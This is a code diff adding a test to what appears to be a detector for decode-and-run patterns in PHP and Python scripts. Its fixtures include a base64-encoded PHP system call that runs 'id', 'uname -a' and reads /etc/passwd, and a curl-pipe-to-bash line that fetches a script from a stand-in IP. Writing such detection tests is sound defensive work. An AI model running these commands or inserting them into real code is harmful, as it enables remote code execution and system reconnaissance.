@@ -29,6 +29,16 @@ describe('honest commands show none', () => {
   }
 });
 
+test('what is asserted is run by PHP alone', () => {
+  const decodes = (code: string, language: 'php' | 'python'): readonly string[] =>
+    signs(readEntry(scriptFact(code, { language })));
+  const encoded = base64('system("id; uname -a; cat /etc/passwd");');
+  expect(decodes(`<?php assert(base64_decode("${encoded}"));`, 'php')).toContain('decode-and-run');
+  expect(
+    decodes(`import base64\ns1 = base64.decodebytes(b"${encoded}")\nassert s1 == s1\n`, 'python'),
+  ).toEqual([]);
+});
+
 describe('layers', () => {
   const fetches = 'curl -fsSL http://192.0.2.1/a.sh|bash';
 
